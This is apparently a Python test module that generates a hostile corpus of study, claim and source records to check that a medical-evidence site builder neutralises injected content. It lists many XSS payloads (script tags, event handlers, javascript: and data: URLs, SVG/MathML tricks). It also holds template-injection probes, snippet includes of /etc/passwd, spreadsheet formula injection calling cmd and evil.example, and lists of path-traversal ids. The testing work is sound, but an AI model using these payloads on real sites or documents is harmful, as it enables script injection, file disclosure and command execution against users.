"""A hostile evidence corpus: every XSS and injection vector in every free-text field of every kind.

The vectors live in one list below. `write_corpus` turns them into a schema-valid evidence tree
(one study, claim, attribution claim, source and search per vector) in a folder given at test
time; nothing generated is committed. Each vector carries a unique marker (`xss-017`) and, where
it could run, calls `window.__xss.push(17)` (or opens a dialog), so a browser test can tell
execution apart from display. `free_text_paths` reads the schemas, so a new free-text field
fails the coverage test until the skeletons below fill it.

Used by tests/test_hostile_*.py. `python -m tests.hostile_corpus write DIR [packed]` writes the
corpus out for a look; `python -m tests.hostile_corpus figures [N]` prints cases, caught, worst
time and memory per category for the note (no test asserts a timing).
"""

from __future__ import annotations

import copy
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from build_tools.paths import KINDS, SCHEMA_DIR, modeline
from build_tools.records.schema import deref as _deref
from build_tools.records.schema import raw_schemas

# (category, payload); "NUM" in a payload becomes the vector's number, "MARK" its marker.
# Categories: script, handler, url-scheme, encoding, broken-tag, embed, svg-math,
# attribute-break, template, markdown (structure injection), snippet.
VECTORS: list[tuple[str, str]] = [
    ("script", '<script id="MARK">window.__xss.push(NUM)</script>'),
    ("script", "<SCRIPT SRC=https://evil.example/MARK.js></SCRIPT>"),
    ("script", "<scr<script>ipt>window.__xss.push(NUM)</scr</script>ipt> MARK"),
    ("script", "<<script>window.__xss.push(NUM);//<</script> MARK"),
    ("script", '<script src="data:text/javascript,window.__xss.push(NUM)" class=MARK></script>'),
    ("script", "</script><script>window.__xss.push(NUM)</script> MARK"),
    ("handler", '<img src=x onerror="window.__xss.push(NUM)" alt="MARK">'),
    ("handler", "<img src=x onerror=window.__xss.push(NUM) class=MARK>"),
    ("handler", "<IMG SRC=/ oNeRrOr=alert(NUM) id=MARK>"),
    ("handler", "<svg onload=window.__xss.push(NUM) id=MARK>"),
    ("handler", "<body onload=window.__xss.push(NUM) class=MARK>"),
    ("handler", "<details open ontoggle=window.__xss.push(NUM) id=MARK>x</details>"),
    ("handler", "<input autofocus onfocus=window.__xss.push(NUM) name=MARK>"),
    ("handler", '<video><source onerror="window.__xss.push(NUM)" id=MARK></video>'),
    ("handler", "<marquee onstart=window.__xss.push(NUM)>MARK</marquee>"),
    ("handler", "<div style=\"position:fixed;inset:0\" onmouseover=\"window.__xss.push(NUM)\" "
                "id=MARK>x</div>"),
    ("url-scheme", "[MARK](javascript:window.__xss.push(NUM))"),
    ("url-scheme", "![MARK](javascript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("url-scheme", "[MARK](vbscript:msgbox(NUM))"),
    ("url-scheme", '<a href="javascript:window.__xss.push(NUM)">MARK</a>'),
    ("url-scheme", "[MARK](jav&#x09;ascript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK](java\nscript:window.__xss.push(NUM))"),
    ("url-scheme", "[MARK][evil]\n\n[evil]: javascript:window.__xss.push(NUM)"),
    ("url-scheme", "<javascript:window.__xss.push(NUM)> <https://evil.example/MARK>"),
    ("url-scheme", '[MARK](https://example.org/ "x" onclick="window.__xss.push(NUM)")'),
    ("encoding", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
                 'window.__xss.push(NUM)">MARK</a>'),
    ("encoding", '<IMG SRC="jav&#x0A;ascript:window.__xss.push(NUM)" id=MARK>'),
    ("encoding", "&lt;script&gt;window.__xss.push(NUM)&lt;/script&gt; MARK"),
    ("encoding", "&#x3C;script&#x3E;window.__xss.push(NUM)&#x3C;/script&#x3E; MARK"),
    ("encoding", "\\x3cscript\\x3ewindow.__xss.push(NUM)\\x3c/script\\x3e MARK"),
    ("encoding", "%3Cscript%3Ewindow.__xss.push(NUM)%3C/script%3E MARK"),
    ("encoding", "\uff1cscript\uff1ewindow.__xss.push(NUM)\uff1c/script\uff1e MARK"),
    ("encoding", "<img src=x onerror=&#x77;indow.__xss.push(NUM) id=MARK>"),
    ("encoding", "\\<script\\>window.__xss.push(NUM)\\</script\\> MARK"),
    ("encoding", "\u2028<script>window.__xss.push(NUM)</script>\u2029 MARK \u200b<scr\u200bipt>"),
    ("broken-tag", '<img """><script>window.__xss.push(NUM)</script>"> MARK'),
    ("broken-tag", "<img src=x onerror=window.__xss.push(NUM)//MARK"),
    ("broken-tag", "<!-- MARK --><script>window.__xss.push(NUM)</script>"),
    ("broken-tag", "--><script>window.__xss.push(NUM)</script><!-- MARK"),
    ("broken-tag", "]]><script>window.__xss.push(NUM)</script> MARK"),
    ("broken-tag", "</title><script>window.__xss.push(NUM)</script><title>MARK"),
    ("broken-tag", "</textarea></style></noscript><script>window.__xss.push(NUM)</script> MARK"),
    ("embed", '<iframe src="javascript:window.__xss.push(NUM)" id=MARK></iframe>'),
    ("embed", '<iframe srcdoc="<script>parent.__xss.push(NUM)</script>" name=MARK></iframe>'),
    ("embed", '<object data="data:text/html,<script>parent.__xss.push(NUM)</script>" '
              "id=MARK></object>"),
    ("embed", '<embed src="javascript:window.__xss.push(NUM)" id=MARK>'),
    ("embed", "<style>@import 'https://evil.example/MARK.css';</style>"),
    ("embed", "<link rel=stylesheet href=https://evil.example/MARK.css>"),
    ("embed", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss.push(NUM)" '
              "name=MARK>"),
    ("embed", '<base href="https://evil.example/MARK/">'),
    ("embed", '<form action="javascript:window.__xss.push(NUM)"><button id=MARK>go</button></form>'),
    ("svg-math", "<svg><script>window.__xss.push(NUM)</script><title>MARK</title></svg>"),
    ("svg-math", '<svg><a xlink:href="javascript:window.__xss.push(NUM)"><text>MARK</text></a></svg>'),
    ("svg-math", '<math href="javascript:window.__xss.push(NUM)">MARK</math>'),
    ("svg-math", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss.push(NUM) "
                 "id=MARK>"),
    ("svg-math", "<svg><foreignObject><iframe srcdoc='<script>parent.__xss.push(NUM)</script>'>"
                 "</iframe></foreignObject><desc>MARK</desc></svg>"),
    ("attribute-break", '" onmouseover="window.__xss.push(NUM)" data-x="MARK'),
    ("attribute-break", "' autofocus onfocus='window.__xss.push(NUM)' data-x='MARK"),
    ("attribute-break", '"><img src=x onerror=window.__xss.push(NUM) id=MARK>'),
    ("attribute-break", "`><svg onload=window.__xss.push(NUM) id=MARK>"),
    ("template", "{{ 7*7 }} {{ window.__xss.push(NUM) }} MARK"),
    ("template", "{% raw %}{{ config }}{% endraw %}{% for x in y %}{# MARK #}"),
    ("template", "${window.__xss.push(NUM)} #{MARK} <%= 7*7 %> ${{7*7}}"),
    ("template", "{{ ''.__class__.__mro__[1].__subclasses__() }} MARK"),
    ("markdown", "| a | b |\n|---|---|\n| <script>window.__xss.push(NUM)</script> | MARK |"),
    ("markdown", "x\n# MARK heading\n## sub { onclick=window.__xss.push(NUM) }"),
    ("markdown", "MARK\n===\n\n---\ntitle: <script>window.__xss.push(NUM)</script>\n---"),
    ("markdown", '<div markdown="1">**MARK** <script>window.__xss.push(NUM)</script></div>'),
    ("markdown", '!!! note "MARK"\n    <script>window.__xss.push(NUM)</script>'),
    ("markdown", '??? danger "MARK" <img src=x onerror=window.__xss.push(NUM)>'),
    ("markdown", 'MARK { onclick="window.__xss.push(NUM)" }'),
    ("markdown", '{: #MARK .x onclick="window.__xss.push(NUM)" }'),
    ("markdown", "MARK[^1]\n\n[^1]: <script>window.__xss.push(NUM)</script>"),
    ("markdown", "```html\n<script>window.__xss.push(NUM)</script>\n``` MARK"),
    ("markdown", "    <script>window.__xss.push(NUM)</script>\n\n- MARK\n1. list\n* * *"),
    ("markdown", "**MARK** _x_ `code` ~~del~~ <b>bold</b> <u>u</u> *[HTML]: abbr"),
    ("markdown", "[TOC] [[MARK]] :material-alert: @MARK ![[x]]"),
    ("snippet", '--8<-- "/etc/passwd"\nMARK'),
    ("snippet", ';--8<-- "mkdocs.yml" MARK'),
    ("snippet", "--8<--\n../../../../etc/hostname\n--8<--\nMARK"),
    ("snippet", '    --8<-- "MARK-missing.md"'),
    # Line separators that str.splitlines() honours but a regex's ^ does not: found by this
    # corpus, they once put a snippet line at the start of a citation code block.
    ("snippet", 'MARK\u2028--8<-- "MARK-missing.md"\u2029--8<-- "cite.md"'),
    ("snippet", 'MARK\x85--8<-- "MARK-missing.md"'),
    ("formula", '=HYPERLINK("https://evil.example/MARK","click")'),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0 MARK"),
    ("formula", "+1+1 -2 MARK"),
    ("citation-format", "MARK\nER  - \nTY  - JOUR\nUR  - javascript:window.__xss.push(NUM)"),
    ("citation-format", "MARK}, note = {injected}, x = {"),
]

# Narrow fields (volume, issue, pages, p) get one of these when a vector does not fit.
SHORT_VECTORS: list[str] = ["<b>MARK</b>", "[MARK](javascript:1)", "# MARK |a|", "{{MARK}}",
                            "<i x=MARK>", "&lt;MARK&gt;", "--8<-- MARK", "*MARK* {: x }"]

# Addresses the schema accepts (https, no space, quote or angle bracket) that still try to break
# out of a Markdown link or an attribute. They go in every URL field of the hostile corpus.
URL_VECTORS: list[str] = [
    "https://example.org/MARK)](javascript:window.__xss.push(NUM))",
    "https://example.org/MARK?a=1&b=2#{{7*7}}",
    "https://example.org/MARK%22onmouseover=window.__xss.push(NUM)%22",
    "https://example.org/MARK`onmouseover=1`",
    "https://example.org/MARK\\x/y",
    "https://example.org/MARK/*a*_b_|c|[d]{e}",
    "https://javascript:window.__xss.push(NUM)@example.org/MARK",
    "https://example.org/MARK/;--8-/etc/passwd!!!%20note",
]

# What URL fields must refuse (schema patterns): the negative test uses every one.
BAD_URLS: list[str] = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "//evil.example/x", "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/<script>", "https://example.org/ x", "ftp://example.org/x",
    "file:///etc/passwd", "https:javascript:alert(1)",
]

# Ids that try to climb out of evidence/ or docs/: every id field must refuse them.
BAD_IDS: list[str] = ["../../etc", "..", "a/../../b", "/etc/passwd", "x\\..\\y", "Upper",
                      "with space", "a..b", "-lead", "%2e%2e"]

FREE = "\x00FREE\x00"  # placeholder in the skeletons for a free-text value
URL = "\x00URL\x00"  # placeholder for an address
WEB_URL = "\x00WEBURL\x00"  # placeholder for an http(s) address (source url)


def marker(n: int) -> str:
    """The unique marker of vector n: 'xss-017'."""
    return f"xss-{n:03d}"


def payload(n: int) -> str:
    """Vector n as it goes into a record (numbered and marked)."""
    return VECTORS[n][1].replace("MARK", marker(n)).replace("NUM", str(n))


def url_payload(n: int) -> str:
    """An address for vector n's records, cycling through URL_VECTORS."""
    return URL_VECTORS[n % len(URL_VECTORS)].replace("MARK", marker(n)).replace("NUM", str(n))


def short_payload(n: int, limit: int) -> str:
    """A short hostile value for a field of at most limit characters."""
    text = SHORT_VECTORS[n % len(SHORT_VECTORS)].replace("MARK", marker(n))
    return text if len(text) <= limit else marker(n)[:limit]


def _free_text(node: dict) -> bool:
    """A string field with no enum, const, pattern or format: anything a contributor types."""
    return (node.get("type") == "string" and not any(
        k in node for k in ("enum", "const", "pattern", "format", "oneOf")))


def _walk(node: dict, path: tuple[str, ...], schemas: dict) -> Iterator[tuple[str, dict]]:
    """(dotted path, node) for every string leaf below node; list items are marked []."""
    node = _deref(node, schemas)
    for key in ("oneOf", "anyOf", "allOf"):
        for branch in node.get(key, []):
            if isinstance(branch, dict) and "const" not in branch:
                yield from _walk(branch, path, schemas)
    if node.get("type") == "array":
        yield from _walk(node.get("items", {}), path + ("[]",), schemas)
    for name, sub in node.get("properties", {}).items():
        yield from _walk(sub, path + (name,), schemas)
    if node.get("type") == "string":
        yield ".".join(path), node


def free_text_paths(kind: str) -> dict[str, int]:
    """Every free-text field of a record kind (dotted, [] for list items) -> its maxLength."""
    schemas = raw_schemas()
    found = {}
    for dotted, node in _walk(schemas[KINDS[kind][1]], (), schemas):
        if _free_text(node):
            found[dotted] = int(node.get("maxLength", 100_000))
    return found


JUDGEMENT_DOMAINS = {"risk-of-bias": "serious", "inconsistency": "no-change",
                     "indirectness": "serious", "imprecision": "very-serious",
                     "publication-bias": "serious", "large-effect": "no-change",
                     "dose-response": "no-change", "plausible-confounding": "no-change"}



def _study(n: int, study: str, other: str, source: str) -> dict[str, Any]:
    """A study using every field, free text left as FREE, critiqued by a source and a study."""
    cite = {"from": "abstract", "locator": FREE}
    return {
        "id": study, "title": FREE,
        "authors": [{"family": FREE, "given": FREE}, {"literal": FREE}],
        "journal": FREE, "journal_abbrev": FREE, "year": 2020, "month": 5,
        "volume": FREE, "issue": FREE, "pages": FREE,
        "ids": {"doi": f"10.1234/hostile.{n}", "pmid": str(1000 + n), "pmcid": f"PMC{1000 + n}",
                "registry": [f"NCT{n:08d}"]},
        "publication_type": "journal-article", "design": "rct", "status": "stopped-early",
        "stopped_early_reason": FREE, "blinding": "double-blind", "comparator": FREE,
        "setting": "inpatient", "country": [FREE], "funding": FREE, "summary": FREE,
        "participants": {"condition": FREE, "crps_type": "type-1",
                         "diagnostic_criteria": "budapest", "enrolled": 12, "randomised": 10,
                         "analysed": 10, "arms": [{"name": FREE, "n": 5}, {"name": FREE, "n": 5}],
                         "female": 6, "age": FREE, "disease_duration": FREE, "cite": cite},
        "intervention": {"agent": "racemic-ketamine", "route": "iv",
                         "regimen": "intermittent-daily", "dose_as_reported": FREE,
                         "rate": {"min": 0.1, "max": 0.3, "unit": "mg/kg/h"},
                         "hours_per_session": 4, "sessions": 4,
                         "co_interventions": [{"agent": FREE, "detail": FREE}], "cite": cite},
        "follow_up": {"weeks": 12, "description": FREE, "cite": cite},
        "outcomes": [
            {"id": "pain", "domain": "pain", "instrument": FREE, "timepoint": FREE, "weeks": 1,
             "comparison": "vs-placebo", "result": FREE, "direction": "benefit", "n": 10,
             "p": FREE, "ci": FREE, "cite": cite,
             "effect": {"measure": "mean-per-arm", "scale": FREE, "scale_max": 10,
                        "lower_is_better": True, "p": FREE, "cite": cite,
                        "pooled": {"studies": 2, "participants": 40, "heterogeneity": FREE,
                                   "model": FREE},
                        "arms": [{"arm": FREE, "role": "intervention", "n": 5, "value": 2.5,
                                  "spread": {"kind": "sd", "value": 1.0}},
                                 {"arm": FREE, "role": "comparator", "n": 5, "value": 5.0,
                                  "spread": {"kind": "sd", "value": 1.2}}]}},
            {"id": "function", "domain": "physical-function", "instrument": FREE,
             "timepoint": FREE, "weeks": 12, "comparison": "vs-placebo", "result": FREE,
             "direction": "no-difference", "cite": cite}],
        "risk_of_bias": {"tool": "rob2", "domains": [
            {"domain": FREE, "judgement": "high", "reason": FREE}],
            "overall": "high", "reason": FREE, "assessed_from": "abstract"},
        "critiques": [
            {"id": "by-source", "text": FREE, "grade_domain": "risk-of-bias", "by_source": source},
            {"id": "by-study", "text": FREE, "grade_domain": "imprecision", "by_study": other},
            {"id": "by-url", "text": FREE, "grade_domain": "indirectness", "by_url": URL},
            {"id": "by-curators", "text": FREE, "grade_domain": "publication-bias",
             "by_curators": True}],
        "review": {"search_end": "2020-01", "databases": [FREE], "conclusion": FREE,
                   "certainty_as_rated": FREE, "cite": cite},
        "notes": [{"topic": FREE, "text": FREE}],
        "verified_from": [{"key": "abstract", "url": URL, "basis": "abstract",
                           "accessed": "2026-11-22"}],
        "unlinked_reason": FREE, "reviewed": "2026-11-22",
    }


def _claim(n: int, study: str, other: str, source: str) -> dict[str, Any]:
    """A graded key claim with PICO, judgements in every domain and two linked outcomes."""
    return {
        "id": f"hostile-claim-{n:03d}", "statement": FREE, "type": "efficacy", "question": "effect",
        "key": True,
        "domain": "pain", "timeframe": "short-term",
        "pico": {"population": FREE, "intervention": FREE, "comparator": FREE, "outcome": FREE},
        "asserted_by": [{"source": source, "paraphrase": FREE},
                        {"study": study, "paraphrase": FREE}],
        "evidence": [{"study": study, "outcome": "pain", "role": "tests", "stance": "supports",
                      "directness": "direct", "note": FREE},
                     {"study": other, "outcome": "function", "role": "context",
                      "stance": "inconclusive", "directness": "indirect-population",
                      "note": FREE}],
        "judgements": {d: {"rating": r, "reason": FREE, "critiques": [f"{study}#by-source"]}
                       for d, r in JUDGEMENT_DOMAINS.items()},
        "notes": FREE, "reviewed": "2026-11-22",
    }


def _attribution(n: int, study: str, other: str, source: str) -> dict[str, Any]:
    """An attribution claim checked against a study."""
    return {
        "id": f"hostile-attribution-{n:03d}", "statement": FREE, "type": "attribution",
        "domain": "pain", "asserted_by": [{"source": source, "paraphrase": FREE}],
        "evidence": [],
        "attribution": {"study": study, "checks": [
            {"aspect": FREE, "asserted": FREE, "record_says": FREE, "matches": "no"},
            {"study": other, "aspect": FREE, "asserted": FREE, "record_says": FREE,
             "matches": "partly"}]},
        "notes": FREE, "reviewed": "2026-11-22",
    }


def _source(n: int, study: str, other: str, source: str) -> dict[str, Any]:
    """A source with every field."""
    return {
        "id": source, "kind": "forum", "title": FREE, "publisher": FREE,
        "authors": [{"family": FREE, "given": FREE}, {"literal": FREE}], "date": "2014-02",
        "date_note": FREE, "url": WEB_URL, "archived_url": URL,
        "seed_file": f"{n % 1000:03d}_0123456789abcdef.txt", "summary": FREE,
        "reviewed": "2026-11-22",
    }


def _search(n: int, study: str, other: str, source: str) -> dict[str, Any]:
    """A search with an included, an excluded and a duplicate candidate."""
    return {
        "id": f"hostile-search-{n:03d}", "database": FREE, "method": "backward-citation",
        "chased": study, "query": FREE, "date": "2026-11-22",
        "hits": 3, "notes": FREE,
        "candidates": [
            {"label": FREE, "decision": "included", "study": study, "url": URL},
            {"label": FREE, "decision": "excluded", "exclusion": "not-crps", "reason": FREE},
            {"label": FREE, "decision": "duplicate", "study": other, "reason": FREE}],
    }


# (kind, maker): one record of each per vector in the full corpus.
MAKERS = [("study", _study), ("claim", _claim), ("claim", _attribution), ("source", _source),
          ("search", _search)]


def _count(value: Any) -> int:
    """How many free-text slots a skeleton has."""
    if isinstance(value, dict):
        return sum(_count(v) for v in value.values())
    if isinstance(value, list):
        return sum(_count(v) for v in value)
    return int(value == FREE)


def _fill(value: Any, kind: str, path: tuple[str, ...], limits: dict[str, int],
          vectors: Iterator[int], url_n: int, placed: set[tuple[str, int]]) -> Any:
    """The skeleton with placeholders replaced: each FREE slot takes the next vector number
    (cut to a short vector where the field is narrow), each URL the address of url_n."""
    if isinstance(value, dict):
        return {k: _fill(v, kind, path + (k,), limits, vectors, url_n, placed)
                for k, v in value.items()}
    if isinstance(value, list):
        return [_fill(v, kind, path + ("[]",), limits, vectors, url_n, placed) for v in value]
    if value == FREE:
        dotted, n = ".".join(path), next(vectors)
        full = payload(n)
        fits = len(full) <= limits[dotted]
        placed.add((dotted, n if fits else -1 - n))
        return full if fits else short_payload(n, limits[dotted])
    if value == URL:
        return url_payload(url_n)
    if value == WEB_URL:
        return url_payload(url_n) if url_n % 2 else url_payload(url_n).replace("https", "http", 1)
    return value


def corpus(packed: bool = False) -> Iterator[tuple[str, str, dict[str, Any], set]]:
    """Every hostile record as (kind, id, data, placed), placed = {(field, vector)}.

    Full (default): five records per vector, each with that vector in every free-text field.
    Packed: the vectors rotate through the fields, so a few records of each kind hold all of
    them (every vector still reaches every kind of page; the browser test loads this one).
    A vector number below zero in placed means a short stand-in took a narrow field.
    """
    total = len(VECTORS)
    counts = {name: 1 + (total - 1) // _count(make(0, "s", "s", "s")) if packed else total
              for name, (_, make) in zip("SCATR", MAKERS, strict=True)}
    n_study, n_source = counts["S"], counts["T"]
    for name, (kind, make) in zip("SCATR", MAKERS, strict=True):
        limits = free_text_paths(kind)
        slot = 0
        for n in range(counts[name]):
            ids = (f"hostile-{n % n_study:03d}", f"hostile-{(n + 1) % n_study:03d}",
                   f"hostile-source-{n % n_source:03d}")
            skeleton = make(n, *ids)
            if packed:
                vectors = (v % total for v in range(slot, slot + _count(skeleton)))
                slot += _count(skeleton)
            else:
                vectors = (n for _ in iter(int, 1))
            placed: set[tuple[str, int]] = set()
            data = _fill(skeleton, kind, (), limits, vectors, n, placed)
            yield kind, data["id"], data, placed


def dump(kind: str, data: dict[str, Any]) -> str:
    """A record file: the modeline, then the data as block YAML."""
    return modeline(kind) + "\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False,
                                                  width=100)


def write_corpus(evidence_dir: Path, packed: bool = False) -> dict[str, set[tuple[str, int]]]:
    """Write the hostile corpus and its schemas into evidence_dir; kind -> (field, vector) placed."""
    shutil.copytree(SCHEMA_DIR, evidence_dir / "schema", dirs_exist_ok=True)
    placed: dict[str, set[tuple[str, int]]] = {kind: set() for kind in KINDS}
    for kind, rid, data, used in corpus(packed):
        folder = evidence_dir / KINDS[kind][0]
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{rid}.yaml").write_text(dump(kind, data), encoding="utf-8")
        placed[kind] |= used
    return placed


def study_record(n: int = 0) -> dict[str, Any]:
    """Vector n's study as data (a deep copy), for tests that break one field of it."""
    found = next(data for kind, rid, data, _ in corpus() if rid == f"hostile-{n:03d}")
    return copy.deepcopy(found)


def build_project(project: Path, *, packed: bool = False, lazy_rows: bool = False) -> str:
    """A project copy in project with the hostile corpus, built by `evidence build` and MkDocs.

    lazy_rows: render the studies table as the big-base variant (first row in the page, the
    rest loaded from studies/table.json), so the browser test covers that script path too.
    Returns MkDocs' log; raises AssertionError when a step fails.
    """
    import contextlib
    from unittest import mock

    from build_tools.pipeline import build
    from build_tools.site.views import overview as site_view
    from tests.conftest import make_site_tree, mkdocs_build

    make_site_tree(project, {})
    write_corpus(project / "evidence", packed=packed)
    rows = (mock.patch.multiple(site_view, INLINE_ROWS=1, FIRST_ROWS=1) if lazy_rows
            else contextlib.nullcontext())
    with rows:
        built = build(project / "evidence", project, project / "docs")
    assert built.report is not None, [p for p in built.check.problems if p.severity == "error"]
    done = mkdocs_build(project)
    assert done.returncode == 0, done.stderr[-4000:]
    return done.stderr


def _measure(function: Any, *args: Any) -> tuple[Any, float, int]:
    """(result, seconds, peak traced bytes) of one call."""
    import time
    import tracemalloc

    tracemalloc.start()
    started = time.perf_counter()
    result = function(*args)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return result, seconds, peak


def figures(workdir: Path, fuzz_examples: int = 300) -> list[tuple[str, int, int, float, int]]:
    """Rows (category, cases, caught, worst seconds, worst peak bytes) for the note."""
    import resource
    import time

    from tests import test_fuzz
    from tests.hostile_citations import citation_rows
    from tests.test_hostile_inputs import ID_FIELDS, URL_FIELDS, _check_one, _set
    from tests.test_hostile_site import live_markup, parse, shown_payloads

    rows = []
    project = workdir / "full"
    project.mkdir(parents=True)
    started = time.perf_counter()
    _, build_s, build_peak = _measure(build_project, project)
    mkdocs_rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
    theme = {body for p in (project / "site").rglob("*.html") if "xss-" not in p.read_text()
             for src, body in parse(p).scripts if src is None}
    from tests.test_hostile_site import _normal_script
    theme = {_normal_script(b) for b in theme}
    findings = live_markup(project / "site", theme)
    shown = shown_payloads(project / "site")
    placed = [(kind, f, n) for kind, _rid, _data, used in corpus() for f, n in used]
    structural = {"markdown", "snippet", "template"}
    for label, pick in (("XSS vectors x free-text fields", lambda c: c not in structural),
                        ("structure injections x fields", lambda c: c in structural)):
        cases = [(k, f, n) for k, f, n in placed if pick(VECTORS[n if n >= 0 else -1 - n][0])]
        vectors = {n if n >= 0 else -1 - n for _, _, n in cases}
        bad = {n for n in vectors if n not in shown or any(marker(n) in f for f in findings)}
        caught = sum(1 for _, _, n in cases if (n if n >= 0 else -1 - n) not in bad)
        rows.append((label, len(cases), caught if not findings else 0,
                     time.perf_counter() - started, max(build_peak, mkdocs_rss)))

    root = workdir / "inputs"
    write_corpus(root / "evidence", packed=True)
    records = {rid: (kind, data) for kind, rid, data, _ in corpus(packed=True)}
    for label, values, fields in (("unsafe URL schemes x URL fields", BAD_URLS, URL_FIELDS),
                                  ("path-traversal ids x id fields", BAD_IDS, ID_FIELDS)):
        worst_s, worst_m, caught, total = 0.0, 0, 0, 0
        for bad in values:
            for kind, rid, where, key in fields:
                data = yaml.safe_load(yaml.safe_dump(records[rid][1]))
                _set(data, where, bad)
                (errors, pos), seconds, peak = _measure(_check_one, root, kind, data, key, bad)
                total += 1
                caught += ("E205", *pos) in errors
                worst_s, worst_m = max(worst_s, seconds), max(worst_m, peak)
        rows.append((label, total, caught, worst_s, worst_m))

    rows += _case_rows(workdir)
    rows += citation_rows(_measure)

    for label, strategy, case in (("fuzz: generated YAML text", test_fuzz.yaml_ish,
                                   test_fuzz._text_case),
                                  ("fuzz: mutated study records", test_fuzz.mutations,
                                   test_fuzz._record_case)):
        rows.append((label, *_fuzz_worst(strategy, case, workdir / label[6:10], fuzz_examples)))
    return rows


def _case_rows(workdir: Path) -> list[tuple[str, int, int, float, int]]:
    """One row per family of tests/hostile_cases.py: broken YAML, escapes, huge integers,
    planted links, and the BibTeX families of import-bib."""
    from build_tools.check.runner import check
    from build_tools.cite.bibimport import plan_import
    from tests.hostile_cases import (
        BIB_CASES,
        CASES,
        FIXTURES,
        LINKS,
        bib_family,
        family,
        run_link_case,
    )

    table: dict[str, list] = {}

    def count(label: str, ok: bool, seconds: float, peak: int) -> None:
        row = table.setdefault(label, [0, 0, 0.0, 0])
        row[0], row[1] = row[0] + 1, row[1] + ok
        row[2], row[3] = max(row[2], seconds), max(row[3], peak)

    for name, (content, code, line, col) in CASES.items():
        path = workdir / "yaml" / name / "evidence" / "sources" / "web-one.yaml"
        path.parent.mkdir(parents=True)
        path.write_bytes(content() if callable(content) else content)
        result, seconds, peak = _measure(check, None, path.parents[1], path.parents[2])
        got = [(p.code, p.line, p.col) for p in result.problems if p.severity == "error"]
        count(family(name), got == [(code, line, col)], seconds, peak)
    for name, (_, _, _, code) in LINKS.items():
        (codes, untouched), seconds, peak = _measure(run_link_case, workdir / "links", name)
        count("planted symbolic links (targets and folders)", code in codes and untouched,
              seconds, peak)
    base = FIXTURES.parent / "base" / "evidence"
    for name, (content, code) in BIB_CASES.items():
        bib = workdir / "bib" / f"{name}.bib"
        bib.parent.mkdir(parents=True, exist_ok=True)
        bib.write_text(content() if callable(content) else content, encoding="utf-8")
        plan, seconds, peak = _measure(plan_import, bib, base)
        codes = {p.code for p in plan.problems}
        count(bib_family(name), code in codes if code else not codes, seconds, peak)
        bib.unlink()
    return [(label, *row) for label, row in table.items()]


def _fuzz_worst(strategy: Any, case: Any, workdir: Path, examples: int) -> tuple:
    """(cases, cases without a crash, worst seconds, worst peak bytes) of one fuzz strategy."""
    from hypothesis import HealthCheck, given, settings

    stats = {"n": 0, "s": 0.0, "m": 0}
    # One tree for every case, as the fuzz tests use one per module (tests/test_fuzz.py tree).
    (workdir / "evidence" / "studies").mkdir(parents=True)

    @settings(max_examples=examples, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(strategy)
    def run(value: Any) -> None:
        stats["n"] += 1
        _, seconds, peak = _measure(case, workdir, value)
        stats["s"], stats["m"] = max(stats["s"], seconds), max(stats["m"], peak)

    run()  # raises on the first crash, so every case counted was handled
    return stats["n"], stats["n"], stats["s"], stats["m"]


def main(argv: list[str]) -> None:
    """`write DIR [packed]`: the corpus as files; `figures [N]`: the table for the note."""
    import tempfile

    if argv[:1] == ["write"] and len(argv) >= 2:
        placed = write_corpus(Path(argv[1]), packed="packed" in argv[2:])
        print(f"wrote {sum(len(v) for v in placed.values())} field x vector placements "
              f"into {argv[1]}")
        return
    examples = int(argv[1]) if len(argv) > 1 else 300
    with tempfile.TemporaryDirectory() as tmp:
        table = figures(Path(tmp), examples)
    print("| category | cases | caught | worst time (s) | worst peak memory (MB) |")
    print("|---|---|---|---|---|")
    for label, cases, caught, seconds, peak in table:
        print(f"| {label} | {cases} | {caught} | {seconds:.2f} | {peak / 1e6:.1f} |")


if __name__ == "__main__":
    import sys

    main(sys.argv[1:])
